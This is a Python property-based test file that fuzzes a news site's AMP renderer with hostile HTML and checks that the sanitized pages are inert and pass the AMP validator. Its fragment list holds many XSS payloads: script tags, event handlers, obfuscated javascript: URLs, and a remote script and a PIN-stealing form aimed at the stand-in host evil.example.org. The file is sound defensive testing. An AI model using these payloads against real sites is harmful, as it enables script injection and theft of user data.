"""Property: whatever hostile HTML the CMS sends, the AMP page is valid and inert.

Bodies are built from fragments real attacks and broken editors produce (scripts, event
handlers, javascript:/data:/vbscript: URLs, forms, styles, http and https iframes, raw AMP
tags, deep nesting, junk), nested at random. Every page is checked at once for what must never
be in it, and all pages are then validated by the official AMP validator in one node process.

`make test` runs a modest number of examples; set WARTA_AMP_FUZZ_EXAMPLES (e.g. 3000) for a
longer run (`make fuzz-amp`).
"""

from __future__ import annotations

import os
import re
from datetime import datetime, timedelta, timezone

import lxml.html
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from warta.core.articles import Article, Author, Section
from warta.core.body import build_body
from warta.core.config import SiteConfig
from warta.core.render.amp import AMP_RUNTIME, render_amp_page

from amp_validator import ValidatorUnavailable, validate_amp, validator_problem

EXAMPLES = int(os.environ.get("WARTA_AMP_FUZZ_EXAMPLES", "120"))
VALIDATION_BATCH = 500  # pages per validator process: bounds the JSON on its stdin
URL = "https://www.andalpost.com/nasional/berita-fuzz"
WIB = timezone(timedelta(hours=7))

# --- hostile fragments ------------------------------------------------------------------------

_ATTACKS = [
    "<script>alert(1)</script>",
    '<script src="https://evil.example.org/x.js"></script>',
    "<script>document.write('<iframe src=//evil.example.org>')</script>",
    '<script type="application/ld+json">{"@type":"NewsArticle","headline":"palsu"}</script>',
    "<style>body{display:none}@import url(//evil.example.org/x.css)</style>",
    '<link rel="stylesheet" href="https://evil.example.org/x.css">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example.org">',
    '<base href="https://evil.example.org/">',
    '<img src="x" onerror="alert(1)">',
    '<img src="https://www.andalpost.com/i.jpg" width="-5" height="abc" onload="steal()">',
    '<img src="data:image/png;base64,iVBORw0KGgo=" alt="data">',
    '<img srcset="javascript:alert(1) 900w, https://www.andalpost.com/ok.jpg 300w">',
    '<picture><source srcset="data:image/webp;base64,AAAA 2000w"><img src="/p.jpg"></picture>',
    '<a href="javascript:alert(1)">klik</a>',
    '<a href=" JaVa&#x53;cript:alert(1)">klik</a>',
    '<a href="java\tscript:alert(1)">tab</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
    '<a href="vbscript:msgbox(1)">vb</a>',
    '<a href="/relatif?a=1&b=<2>" onclick="steal()">relatif</a>',
    '<a href="https://www.andalpost.com/x"><img src="javascript:alert(1)"></a>',
    '<form action="https://evil.example.org/pin"><input name="pin"><button>Kirim</button></form>',
    '<input type="text" value="PIN"><textarea>isi</textarea><select><option>a</option></select>',
    '<iframe src="http://old.example.org/widget" width="300" height="200"></iframe>',
    '<iframe src="https://maps.example.org/embed?x=1" width="600" height="400"></iframe>',
    '<iframe src="https://www.andalpost.com/widget"></iframe>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<iframe src="https://www.youtube.com/embed/Xk3pT9aLm2Q" width="0" height="99999999"></iframe>',
    '<iframe src="https://www.youtube.com/embed/%22onload%3D"></iframe>',
    '<iframe src="https://player.vimeo.com/video/123?x=<y>"></iframe>',
    '<object data="https://evil.example.org/x.swf"><param name="a" value="b"></object>',
    '<embed src="https://evil.example.org/x.swf">',
    '<svg onload="alert(1)"><script>alert(2)</script></svg>',
    "<math><mi>x</mi></math>",
    '<video src="data:video/mp4;base64,AAAA" onplay="steal()"></video>',
    '<video src="https://cdn.example.org/v.mp4" poster="javascript:alert(1)"></video>',
    '<video src="http://cdn.example.org/v.mp4"></video>',
    '<audio src="javascript:alert(1)"></audio><audio src="https://cdn.example.org/a.mp3"></audio>',
    '<blockquote class="twitter-tweet"><p>Cuit</p><a href="https://twitter.com/a/status/123">t</a></blockquote>',
    '<blockquote class="twitter-tweet"><a href="javascript:alert(1)/status/1">t</a></blockquote>',
    '<blockquote class="instagram-media" data-instgrm-permalink="https://www.instagram.com/p/Abc_1/">'
    "<a>View this post</a></blockquote>",
    '<blockquote class="tiktok-embed" cite="javascript:alert(1)" data-video-id="1"><p>tt</p></blockquote>',
    '<div class="fb-post" data-href="javascript:alert(1)"><p>fb</p></div>',
    '<div class="fb-video" data-href="https://www.facebook.com/x/videos/9"></div>',
    '<amp-img src="https://evil.example.org/x.jpg" width="1" height="1"></amp-img>',
    '<amp-analytics><script type="application/json">{"requests":{}}</script></amp-analytics>',
    '<amp-iframe src="https://evil.example.org" sandbox="allow-top-navigation"></amp-iframe>',
    "<template><p>tersembunyi</p></template><noscript><p>noscript</p></noscript>",
    '<p style="display:none;background:url(javascript:alert(1))">gaya</p>',
    '<div style="behavior:url(x.htc)" class="i-amphtml-foo" id="amp-x">kelas</div>',
    "<table><tr><td>sel<td>sel 2<tr><th>kepala</table>",
    "<table><caption>Judul</caption><td><img src=/t.jpg></td></table>",
    "<ul><li>satu<li>dua<ol><li>tiga</ol></ul>",
    "<h1>Judul palsu</h1><h6>kecil</h6>",
    "<figure><img src='/f.jpg'><figcaption>Keterangan Sumber: CNN</figcaption></figure>",
    "]]><![CDATA[ x ]]>",
    "<!-- komentar --><!-- <script>alert(1)</script> -->",
    "<?php echo 1; ?>",
    "</body></html><p>setelah html</p>",
    "&#0; &#x1; &#xD800; &#xFFFE; &bogus; &amp &lt;script&gt;",
    "\x00\x01\x0b\ufffe\ud800",
    "<p>Teks biasa dengan <b>tebal</b>, <i>miring</i> dan emoji 😀 عربى</p>",
    "<br><br/><hr><wbr>",
    "<marquee><blink><font color=red>lama</font></blink></marquee>",
    '<a href="https://x.com/a/status/1"><a href="https://b.example.org">bersarang</a></a>',
    "<b><i><u><s>tak ditutup",
    "<div" * 3 + ">",
    '<p class="x" id="y" data-foo="z" hidden aria-hidden="true" tabindex="1">atribut</p>',
    "<button onclick='alert(1)'>Aktifkan</button>",
    "<details open ontoggle=alert(1)><summary>r</summary>isi</details>",
    '<custom-element is="x" onmouseover="alert(1)">kustom</custom-element>',
]

_text = st.text(
    alphabet=st.characters(codec="utf-8", exclude_categories=("Cs",)) | st.sampled_from("<>&\"'/=;:"),
    max_size=30,
)
_leaf = st.sampled_from(_ATTACKS) | _text
_WRAPPERS = [
    ("<p>", "</p>"),
    ("<div>", "</div>"),
    ("<span>", "</span>"),
    ("<b>", "</b>"),
    ('<a href="https://www.andalpost.com/t">', "</a>"),
    ('<a href="javascript:alert(1)">', "</a>"),
    ("<blockquote>", "</blockquote>"),
    ("<figure>", "<figcaption>cap</figcaption></figure>"),
    ("<ul><li>", "</li></ul>"),
    ("<table><tr><td>", "</td></tr></table>"),
    ("<h2>", "</h2>"),
    ("<section onclick=x>", "</section>"),
    ("<picture>", "</picture>"),
    ("<p>", ""),  # left open
    ("", "</div>"),  # stray end tag
]


def _wrap(children: st.SearchStrategy[str]) -> st.SearchStrategy[str]:
    wrapped = st.tuples(st.sampled_from(_WRAPPERS), st.lists(children, max_size=4)).map(
        lambda pair: pair[0][0] + "".join(pair[1]) + pair[0][1]
    )
    deep = st.tuples(
        st.sampled_from(["div", "blockquote", "b", "li", "figure"]), st.integers(50, 400), children
    ).map(lambda t: f"<{t[0]}>" * t[1] + t[2] + f"</{t[0]}>" * t[1])
    return wrapped | deep


_page_html = st.lists(st.recursive(_leaf, _wrap, max_leaves=12), min_size=1, max_size=8).map("".join)
hostile_pages = st.lists(_page_html, min_size=1, max_size=3)


# --- what must never be in a page -------------------------------------------------------------

_AMP_SCRIPT = re.compile(r"https://cdn\.ampproject\.org/v0(?:/amp-[a-z-]+-\d+\.\d+)?\.js")
_BAD_SCHEME = re.compile(r"^(?:javascript|data|vbscript):")
_INVISIBLE = re.compile(r"[\x00-\x20\x7f]+")
_FORM_TAGS = ("form", "input", "button", "textarea", "select", "option")


def _problems(page: bytes) -> list[str]:
    doc = lxml.html.document_fromstring(page.decode("utf-8"))
    problems = []
    for script in doc.iter("script"):
        src, kind = script.get("src"), script.get("type")
        in_head = script.getparent() is not None and script.getparent().tag == "head"
        if src is not None:
            if not (_AMP_SCRIPT.fullmatch(src) and in_head and not (script.text or "").strip()):
                problems.append(f"foreign script src={src!r}")
        elif kind != "application/ld+json" or not in_head:
            problems.append(f"inline script type={kind!r}")
    if len(doc.xpath('//script[@type="application/ld+json"]')) != 1:
        problems.append("not exactly one JSON-LD block")
    for style in doc.iter("style"):
        if style.get("amp-custom") is None and style.get("amp-boilerplate") is None:
            problems.append("foreign <style>")
    for element in doc.iter():
        if not isinstance(element.tag, str):
            continue
        if element.tag in _FORM_TAGS or element.tag in ("iframe", "object", "embed", "img", "svg"):
            problems.append(f"forbidden element <{element.tag}>")
        for name, value in element.attrib.items():
            if name.lower().startswith("on"):
                problems.append(f"event handler {name}= on <{element.tag}>")
            if name.lower() == "style":
                problems.append(f"style= on <{element.tag}>")
            if _BAD_SCHEME.match(_INVISIBLE.sub("", value).lower()):
                problems.append(f"unsafe URL {name}={value!r} on <{element.tag}>")
    return problems


def _article(site: SiteConfig, pages: list[str]) -> Article:
    return Article(
        site=site.id,
        id="6660",
        revision=1,
        url=URL,
        title="Berita uji <script>alert(1)</script>",
        summary="Ringkasan",
        language=site.language,
        section=Section("nasional", "Nasional"),
        tags=("uji",),
        authors=(Author("Redaksi", "javascript:alert(1)"),),
        published_at=datetime(2024, 1, 2, 3, 4, tzinfo=WIB),
        updated_at=None,
        image=None,
        access="free",
        body=build_body(pages, URL, site),
        page_count=len(pages),
    )


def test_problem_checker_sees_problems() -> None:
    """Guards the property: a checker that sees nothing would make the fuzzing worthless."""
    bad = (
        b"<!doctype html><html><head><script>x</script><style>p{}</style></head><body>"
        b'<a href=" java\tscript:x" onclick="y">a</a><form></form><p style="x">p</p></body></html>'
    )
    found = " | ".join(_problems(bad))
    for needle in ("inline script", "foreign <style>", "unsafe URL", "event handler", "<form>", "style="):
        assert needle in found


def test_hostile_bodies_give_valid_inert_amp(site: SiteConfig) -> None:
    problem = validator_problem()
    if problem is not None:
        pytest.skip(f"AMP validator not installed: {problem}")
    pages: dict[str, tuple[list[str], bytes]] = {}

    @settings(
        max_examples=EXAMPLES,
        deadline=None,
        database=None,
        suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
    )
    @given(hostile_pages)
    def check(source: list[str]) -> None:
        page = render_amp_page(_article(site, source), site)
        assert _problems(page) == [], source  # shrunk by hypothesis to a small example
        pages[f"case-{len(pages):05d}"] = (source, page)

    check()
    assert len(pages) >= min(EXAMPLES, 20)
    names = sorted(pages)
    results: dict[str, list[str]] = {}
    try:
        for start in range(0, len(names), VALIDATION_BATCH):
            batch = names[start : start + VALIDATION_BATCH]
            results.update(validate_amp({name: pages[name][1] for name in batch}))
    except ValidatorUnavailable as exc:
        pytest.skip(str(exc))
    failures = {name: (pages[name][0], errors[:3]) for name, errors in results.items() if errors}
    assert not failures, (
        f"{len(failures)} of {len(pages)} pages invalid, e.g. {next(iter(failures.values()))}"
    )
    assert AMP_RUNTIME.encode() in next(iter(pages.values()))[1]
